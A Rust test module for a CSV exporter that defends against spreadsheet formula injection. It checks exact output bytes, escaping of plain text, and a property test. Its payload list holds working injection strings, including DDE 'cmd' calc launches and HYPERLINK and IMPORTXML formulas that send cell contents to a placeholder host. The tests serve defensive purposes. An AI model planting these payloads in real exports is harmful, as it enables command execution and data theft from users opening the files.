use super::*;
use proptest::prelude::*;

/// Cells of the table after its header, read by a parser that is not ours.
fn read(bytes: &[u8]) -> Vec<Vec<String>> {
    let text = std::str::from_utf8(bytes).unwrap().strip_prefix('\u{feff}').unwrap();
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
    reader.records().map(|record| record.unwrap().iter().map(str::to_owned).collect()).collect()
}

fn one(text: &str) -> String {
    // A second cell keeps an empty first one from being a blank line.
    let rows = read(&csv(&["h".to_owned(), "i".to_owned()], std::iter::once(vec![Cell::from(text), Cell::from("x")])));
    rows[1][0].clone()
}

#[test]
fn the_bytes_are_these() {
    let header = ["Name".to_owned(), "Points, total".to_owned(), "=x".to_owned()];
    let rows = vec![
        vec![Cell::from("李雷"), Cell::Centi(-150), Cell::Number(-3)],
        vec![Cell::from("say \"hi\""), Cell::Centi(5), Cell::Empty],
        vec![Cell::from("a\nb"), Cell::Centi(1000), Cell::from("-3")],
    ];
    let expect = "\u{feff}Name,\"Points, total\",'=x\r\n李雷,-1.50,-3\r\n\"say \"\"hi\"\"\",0.05,\r\n\"a\nb\",10.00,'-3\r\n";
    assert_eq!(String::from_utf8(csv(&header, rows.into_iter())).unwrap(), expect);
}

#[test]
fn payloads_reach_no_formula() {
    let payloads = [
        "=1+1",
        "=HYPERLINK(\"http://x.example/?\"&A1,\"marks\")",
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\0=1+1",
        " =1+1",
        "\u{3000}=1+1",
        "\u{feff}=1+1",
        "＝1+1",
        "＠SUM(1)",
        "'=1+1",
        "''=1+1",
        "=\"1\"&A1",
        "=1+1\",=2+2,\"",
        "=IMPORTXML(CONCAT(\"http://x.example\",A1),\"//a\")",
    ];
    for payload in payloads {
        let cell = one(payload);
        assert_eq!(cell, format!("'{payload}"), "{payload:?}");
        assert_eq!(unguarded(&cell), payload);
    }
}

#[test]
fn plain_text_stays_plain() {
    for text in ["", "Ann", "O'Neil", "'t Hooft", "李雷", "a=b", "1-2", "x@y.example", "\"quoted\"", "a,b;c\td", "a\r\nb", "'"]
    {
        assert_eq!(one(text), text, "{text:?}");
    }
}

proptest! {
    #[test]
    fn what_is_written_can_be_read(texts in prop::collection::vec("[-=+@'\", ;\\t\\r\\na-c1\\u{3000}李]{0,8}", 2..5)) {
        let cells = texts.iter().map(|text| Cell::from(text.as_str())).collect();
        let header: Vec<String> = texts.iter().map(|_| "h".to_owned()).collect();
        let back = read(&csv(&header, std::iter::once(cells)));
        for (cell, text) in back[1].iter().zip(&texts) {
            prop_assert_eq!(unguarded(cell), text);
            let first = cell.trim_start_matches([' ', '\u{3000}']).chars().next();
            prop_assert!(!first.is_some_and(|c| "=+-@\t\r\n".contains(c)), "{:?}", cell);
        }
    }
}
